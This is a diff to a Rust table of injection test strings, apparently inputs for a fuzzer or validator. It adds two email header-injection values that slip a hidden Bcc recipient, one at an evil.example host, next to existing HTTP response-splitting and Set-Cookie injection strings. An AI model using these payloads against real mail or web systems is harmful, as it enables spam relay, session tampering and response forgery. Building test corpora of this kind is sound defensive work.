@@ -217,6 +217,8 @@ pub const FAMILIES: &[Family] = &[
             "/\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html",
             "/page\u{560d}\u{560a}Set-Cookie: x=1",
             "utf-8\r\nAccess-Control-Allow-Origin: *",
+            "a@b.example\r\nBcc: victim@c.example",
+            "Hello\nbcc:list@evil.example",
         ],
     },
     Family {
